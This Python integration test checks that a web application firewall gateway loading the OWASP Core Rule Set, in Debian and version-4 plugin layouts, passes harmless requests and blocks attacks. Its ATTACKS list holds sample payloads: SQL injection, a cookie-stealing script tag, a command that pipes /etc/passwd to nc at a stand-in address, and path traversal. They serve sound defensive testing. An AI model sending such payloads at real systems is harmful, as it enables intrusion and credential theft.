#!/usr/bin/env python3
"""The layouts that the Core Rule Set comes in, as an operator names them: Debian's package (version
3.3), with and without its files in /etc, and a folder of version 4 with a plugin of our own. Each
loads, lets harmless requests pass and stops attacks."""

import http.client
import subprocess
import urllib.parse

import core_rule_set
import rig

HARMLESS = [
    ("GET", "/", ""),
    ("GET", "/search?q=blue+shoes&page=2&sort=price", ""),
    ("GET", "/a/long/path/to/a-page.html?utm_source=letter", ""),
    ("POST", "/comment", "name=Ann&text=It+works.+Thank+you%21"),
]
ATTACKS = {
    "SQL injection": "1' UNION SELECT user,password FROM users-- -",
    "a script": "<script>alert(document.cookie)</script>",
    "a command": "; cat /etc/passwd | nc 192.0.2.1 4444",
    "a local file": "../../../../etc/passwd",
}

CONFIGURATION = """
[process]
workers = 1

[admin]
listen = "off"

[[listen]]
address = "127.0.0.1:{port}"

[waf]
crs = "{crs}"
mode = "block"
{waf}

[[site]]
host = "*"
upstream = "{origin}"
"""

# A plugin as docs/waf.md tells of them: what it is set to, what comes before the rules, what comes after.
PLUGIN = {
    "sample-config.conf": """
SecAction "id:9599010,phase:1,pass,nolog,setvar:'tx.sample-plugin_word=open sesame'"
""",
    "sample-before.conf": """
SecRule ARGS:word "@streq %{tx.sample-plugin_word}" "id:9599100,phase:2,pass,nolog,\\
    ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:text"
SecRule &TX:detection_paranoia_level "@eq 0" "id:9599110,phase:1,pass,nolog,setvar:tx.sample-plugin_first=1"
""",
    "sample-after.conf": """
SecRule ARGS_GET:order "@streq %{tx.sample-plugin_word}" "id:9599200,phase:1,deny,status:406,chain"
    SecRule TX:sample-plugin_first "@eq 1" "chain"
        SecRule &TX:detection_paranoia_level "@eq 1"
""",
}


class Layout:
    """A gate with one layout, and requests to it."""

    def __init__(self, check, name, crs, waf=""):
        self.check, self.name, self.port = check, name, rig.free_port()
        file = check.directory / f"{name}.toml"
        file.write_text(CONFIGURATION.format(port=self.port, crs=crs, waf=waf, origin=rig.origin()))
        judged = subprocess.run([check.binary, "check", file], capture_output=True, text=True, timeout=120)
        said = judged.stdout + judged.stderr
        check.check(f"{name}: its files are accepted", judged.returncode == 0 and "error" not in said, said)
        check.start([check.binary, "serve", file], "tidegate", self.port)

    def status(self, method, target, body=""):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        headers = {"Host": "www.example.org", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "text/html"}
        if body:
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        connection.request(method, target, body or None, headers)
        status = connection.getresponse().status
        connection.close()
        return status

    def expect(self, what, status, *request):
        found = self.status(*request)
        self.check.check(f"{self.name}: {what}", found == status, f"{found} for {request}")

    def expect_sense(self):
        for request in HARMLESS:
            self.expect(f"{request[0]} {request[1]} passes", 200, *request)
        for what, text in ATTACKS.items():
            text = urllib.parse.quote_plus(text)
            self.expect(f"{what} in the query is denied", 403, "GET", f"/?text={text}")
            self.expect(f"{what} in a form is denied", 403, "POST", "/comment", f"text={text}")


def debian(check):
    root = core_rule_set.debian(check.directory)
    if root is None:
        print("not checked: Debian's package modsecurity-crs can be neither found nor fetched")
        return
    crs, etc = root / "usr/share/modsecurity-crs", root / "etc/modsecurity/crs"
    Layout(check, "debian", crs).expect_sense()
    before = [str(etc / "crs-setup.conf"), str(etc / "REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf")]
    after = str(etc / "RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf")
    Layout(check, "debian-etc", crs, f"rules_before = {before}\nrules = [\"{after}\"]".replace("'", '"')).expect_sense()


def plugin(check):
    crs = check.directory / "crs4"
    crs.mkdir()
    (crs / "rules").symlink_to(core_rule_set.folder() / "rules/@owasp_crs")
    (crs / "plugins").mkdir()
    for name, text in PLUGIN.items():
        (crs / "plugins" / name).write_text(text)
    layout = Layout(check, "plugin", crs)
    layout.expect_sense()
    attack = urllib.parse.quote_plus(ATTACKS["SQL injection"])
    word = urllib.parse.quote_plus("open sesame")
    layout.expect("what comes before has exempted an argument", 200, "GET", f"/?text={attack}&word={word}")
    # The rules' own beginning sets their level: it lies between the two.
    layout.expect("what comes before is before the rules, what comes after after them", 406, "GET", f"/?order={word}")
    layout.expect("a wrong word exempts nothing", 403, "GET", f"/?text={attack}&word=other")


def main():
    check = rig.Rig()
    debian(check)
    plugin(check)
    check.finish()


main()
